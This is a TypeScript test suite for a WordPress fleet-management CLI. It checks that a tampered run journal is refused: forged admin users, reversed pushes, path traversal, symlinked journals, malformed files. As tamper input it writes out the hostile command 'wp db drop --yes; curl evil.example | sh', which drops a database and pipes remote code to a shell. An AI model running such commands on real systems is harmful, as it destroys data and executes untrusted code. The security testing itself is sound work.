import { createHash } from 'node:crypto';
import { existsSync, readdirSync, readFileSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { Plan } from '../../src/plan/plan.js';
import type { Simulator } from '../../src/sim/server.js';
import { runCli, simEnv, tempDir, writePlaybook, type CliResult } from '../helpers/cli.js';
import { useSimulator } from '../helpers/sim.js';
import { sealOf } from '../../src/util/seal.js';

const start = useSimulator();

type Start = { t: 'start'; plan: Plan } & Record<string, unknown>;

/**
 * Runs `text` to its end, then leaves only the journal's start record (every step "never sent"),
 * as rewritten by `tamper`. The record is sealed again with the run's token unless `reseal` is false:
 * what resume does with a record its seal vouches for, the last line of defence, is what is tested.
 */
async function tamperedRun(sim: Simulator, text: string, tamper: (start: Start) => void, reseal = true) {
  const dir = tempDir();
  const file = writePlaybook(text, dir);
  const report = join(dir, 'r.json');
  const env = simEnv(sim);
  const ran = await runCli(['run', file, '--yes', '--report', report], env);
  expect(ran.code).toBe(0);
  const journal = join(dir, 'r.journal.jsonl');
  const first = JSON.parse(readFileSync(journal, 'utf8').split('\n')[0]!) as Start;
  const before = JSON.stringify(first);
  tamper(first);
  if (reseal && JSON.stringify(first) !== before) first.seal = sealOf(sim.token, 'journal', first);
  writeFileSync(journal, `${JSON.stringify(first)}\n`);
  return { dir, file, report, journal, env, sent: sim.log.filter((e) => e.method !== 'GET').length };
}

/** Exit 2 with the reason on its first line naming the file, no stack trace. */
function refused(result: CliResult, file: string): string {
  expect(result.code, result.stderr).toBe(2);
  expect(result.stderr).not.toMatch(/\n\s+at /);
  const line = result.stderr.split('\n')[0]!;
  expect(line).toContain(file);
  return line;
}

const site = (sim: Simulator) => [...sim.fleet.sites.values()][0]!;
const envOf = (sim: Simulator, name: string) => site(sim).envIds.find((id) => sim.fleet.environments.get(id)!.displayName === name)!;

describe('a journal is data: resume sends only what the playbook it was planned from makes (issue 28, finding 2)', () => {
  it('an admin user for an intruder written into the start record is refused: exit 2, nothing sent', async () => {
    const { sim } = await start({ sites: 3, operationDelayMs: 0 });
    const text =
      'version: 1\nname: admins\ntasks:\n  - { name: admin, action: admin_users.create, target: { environment: live }, with: { email: ops@example.org, first_name: Ops, last_name: Team } }\n';
    const run = await tamperedRun(sim, text, (s) => {
      for (const step of s.plan.steps) (step.body as { email: string }).email = 'intruder@evil.example';
    });
    const result = await runCli(['resume', run.report, '--yes'], run.env);
    expect(refused(result, run.journal)).toMatch(
      /plan\.steps\.\d+: admin, .*: not what .* sends \(the body is now .*ops@example\.org.*\).*resume sends nothing/,
    );
    expect(sim.log.filter((e) => e.method !== 'GET')).toHaveLength(run.sent);
    expect(JSON.stringify(sim.log)).not.toContain('intruder@evil.example');
  });

  it('a start record changed without the token (no seal of its own) is refused before the playbook it names is read', async () => {
    const { sim } = await start({ sites: 3, operationDelayMs: 0 });
    const text =
      'version: 1\nname: cli\ntasks:\n  - { name: flush, action: wp_cli.run, target: { environment: live }, with: { wp_command: "wp cache flush" } }\n';
    const evil = writePlaybook(
      'version: 1\nname: evil\ntasks:\n  - { name: x, action: wp_cli.run, target: all, with: { wp_command: "wp plugin deactivate --all" } }\n',
    );
    const run = await tamperedRun(
      sim,
      text,
      (s) => {
        s.playbook = evil;
        s.plan.made!.playbook_sha256 = createHash('sha256').update(readFileSync(evil)).digest('hex');
      },
      false,
    );
    const line = refused(await runCli(['resume', run.report, '--yes'], run.env), run.report);
    expect(line).toContain("does not carry this API token's seal");
    expect(sim.log.filter((e) => e.method !== 'GET')).toHaveLength(run.sent);
    // The same journal under another token: refused the same way.
    const other = await runCli(['resume', run.report, '--yes'], { ...run.env, SITEFLEET_TOKEN: 'another-token-entirely' });
    expect(refused(other, run.report)).toContain("does not carry this API token's seal");
  });

  it('a push turned around (staging over live, with the database) is refused', async () => {
    const { sim } = await start({ sites: 3, operationDelayMs: 0 });
    const live = envOf(sim, 'live');
    const staging = envOf(sim, 'staging');
    const text = `version: 1\nname: push\ntasks:\n  - { name: push, action: environments.push, with: { site_id: "${site(sim).id}", source_env_id: "${live}", target_env_id: "${staging}", push_db: false, push_files: true } }\n`;
    const run = await tamperedRun(sim, text, (s) => {
      s.plan.steps[0]!.body = { source_env_id: staging, target_env_id: live, push_db: true, push_files: true };
    });
    refused(await runCli(['resume', run.report, '--yes'], run.env), run.journal);
    expect(sim.log.filter((e) => e.method !== 'GET')).toHaveLength(run.sent);
  });

  it('a WP-CLI command the pattern forbids is never sent, nor one the playbook does not name', async () => {
    const { sim } = await start({ sites: 3, operationDelayMs: 0 });
    const text =
      'version: 1\nname: cli\ntasks:\n  - { name: flush, action: wp_cli.run, target: { environment: live }, with: { wp_command: "wp cache flush" } }\n';
    for (const command of ['wp db drop --yes; curl evil.example | sh', 'wp plugin deactivate --all']) {
      const run = await tamperedRun(sim, text, (s) => {
        for (const step of s.plan.steps) step.body = { wp_command: command };
      });
      refused(await runCli(['resume', run.report, '--yes'], run.env), run.journal);
      expect(JSON.stringify(sim.log.map((e) => e.body))).not.toContain(command);
    }
  });

  it('a step added for an environment the task does not select is not sent: dropped as changed', async () => {
    const { sim } = await start({ sites: 3, operationDelayMs: 0 });
    const text =
      'version: 1\nname: cli\ntasks:\n  - { name: flush, action: wp_cli.run, target: { environment: staging }, with: { wp_command: "wp cache flush" } }\n';
    const live = envOf(sim, 'live');
    const run = await tamperedRun(sim, text, (s) => {
      const copy = structuredClone(s.plan.steps[0]!);
      Object.assign(copy, { id: `0:${live}`, params: { env_id: live }, path: `/sites/environments/${live}/run-wp-cli-command`, target: { env_id: live } });
      s.plan.steps.push(copy);
    });
    const result = await runCli(['resume', run.report, '--yes'], run.env);
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout).toContain('changed since the run: dropped (skipped), not sent');
    expect(result.stdout).toContain("the task's target no longer selects it");
    expect(sim.log.filter((e) => e.method !== 'GET' && e.path.includes(live))).toEqual([]);
  });

  it('a company that is a path, a path that is not its endpoint’s, an endpoint that is not one: exit 2 at the journal, no lock file made', async () => {
    const { sim } = await start({ sites: 2, operationDelayMs: 0 });
    const text = 'version: 1\nname: cli\ntasks:\n  - { name: flush, action: wp_cli.run, target: all, with: { wp_command: "wp cache flush" } }\n';
    const cases: [string, (s: Start) => void, RegExp][] = [
      ['company', (s) => void (s.plan.company = '../../../tmp/sitefleet-escape'), /plan\.company: .* is not a valid UUID/],
      [
        'path',
        (s) => void (s.plan.steps[0]!.path = '/sites/environments/other/run-wp-cli-command'),
        /plan\.steps\.0\.path: is not the path runWpCliCommand builds/,
      ],
      [
        'endpoint',
        (s) => void (s.plan.steps[0]!.endpoint = 'deleteEverything' as never),
        /plan\.steps\.0\.endpoint: "deleteEverything" is not an endpoint of the API/,
      ],
    ];
    for (const [what, tamper, message] of cases) {
      const run = await tamperedRun(sim, text, tamper);
      const line = refused(await runCli(['resume', run.report, '--yes'], run.env), run.journal);
      expect(line, what).toMatch(message);
      expect(sim.log.filter((e) => e.method !== 'GET')).toHaveLength(run.sent);
    }
    expect(existsSync('/tmp/sitefleet-escape.lock')).toBe(false);
  });

  it('a playbook changed since the run is refused by name before it is read', async () => {
    const { sim } = await start({ sites: 2, operationDelayMs: 0 });
    const text = 'version: 1\nname: cli\ntasks:\n  - { name: flush, action: wp_cli.run, target: all, with: { wp_command: "wp cache flush" } }\n';
    const run = await tamperedRun(sim, text, () => undefined);
    writeFileSync(run.file, text.replace('wp cache flush', 'wp rewrite flush'));
    const line = refused(await runCli(['resume', run.report, '--yes'], run.env), run.report);
    expect(line).toContain('is not the text its run was planned from');
    expect(sim.log.filter((e) => e.method !== 'GET')).toHaveLength(run.sent);
  });

  it('an untouched journal still resumes: what was never sent is sent, as the playbook sends it', async () => {
    const { sim } = await start({ sites: 3, operationDelayMs: 0 });
    const text =
      'version: 1\nname: cli\ntasks:\n  - { name: flush, action: wp_cli.run, target: { environment: live }, with: { wp_command: "wp cache flush" } }\n';
    const run = await tamperedRun(sim, text, () => undefined);
    const result = await runCli(['resume', run.report, '--yes'], run.env);
    expect(result.code, result.stderr).toBe(0);
    const writes = sim.log.filter((e) => e.method !== 'GET');
    expect(writes).toHaveLength(run.sent * 2);
    expect(writes.slice(run.sent).every((e) => (e.body as { wp_command: string }).wp_command === 'wp cache flush')).toBe(true);
    expect(readdirSync(dirname(run.report))).toContain('r.json');
  });
});

describe('a journal is never written through a link (issue 28, review)', () => {
  it('status with a journal linked to another file: exit 2, the file untouched', async () => {
    const { sim } = await start({ sites: 2, operationDelayMs: 0 });
    const text = 'version: 1\nname: cli\ntasks:\n  - { name: flush, action: wp_cli.run, target: all, with: { wp_command: "wp cache flush" } }\n';
    const run = await tamperedRun(sim, text, () => undefined);
    const victim = join(tempDir(), 'bashrc');
    writeFileSync(victim, 'export PATH=$PATH:/opt/bin'); // no final newline: opening it as a journal would cut it to nothing
    unlinkSync(run.journal);
    symlinkSync(victim, run.journal);
    const result = await runCli(['status', run.report], run.env);
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('is a link: a journal is never written through one');
    expect(readFileSync(victim, 'utf8')).toBe('export PATH=$PATH:/opt/bin');
  });
});

describe('files read back that are not what they claim: one line, exit 2, never a stack trace (issue 28, finding 9)', () => {
  const deep = (n: number) => `${'['.repeat(n)}${']'.repeat(n)}`;
  const kinds: [string, string][] = [
    ['empty', ''],
    ['truncated', '{"version": 1, "run_id": "'],
    ['{}', '{}'],
    ['of another kind', 'version: 1\nname: a playbook\n'],
    ['nested a million levels', deep(1_000_000)],
  ];

  it.each(kinds)('status of a report that is %s', async (_kind, content) => {
    const { sim } = await start({ sites: 1 });
    const report = join(tempDir(), 'r.json');
    writeFileSync(report, content);
    refused(await runCli(['status', report], simEnv(sim)), report);
  });

  it.each(kinds)('run --plan of a plan that is %s', async (_kind, content) => {
    const { sim } = await start({ sites: 1 });
    const plan = join(tempDir(), 'plan.json');
    writeFileSync(plan, content);
    refused(await runCli(['run', '--plan', plan, '--yes'], simEnv(sim)), plan);
    expect(sim.log).toEqual([]);
  });

  it.each([
    ['{}', '{}'],
    [
      'a start record without a plan',
      JSON.stringify({
        t: 'start',
        v: 1,
        run_id: '7d0f3a9e-1b2c-4d5e-8f90-a1b2c3d4e5f6',
        playbook: 'p.yaml',
        report: 'r.json',
        started_at: '2026-11-22T00:00:00.000Z',
      }),
    ],
    ['a plan body nested a million levels', `{"t":"start","v":1,"plan":{"steps":[{"body":${deep(1_000_000)}}]}}`],
  ])('resume of a journal whose first line is %s', async (_kind, content) => {
    const { sim } = await start({ sites: 1 });
    const report = join(tempDir(), 'r.json');
    writeFileSync(join(dirname(report), 'r.journal.jsonl'), `${content}\n{"t":"end","at":1}\n`);
    refused(await runCli(['resume', report, '--yes'], simEnv(sim)), 'r.journal.jsonl');
    expect(sim.log).toEqual([]);
  });
});
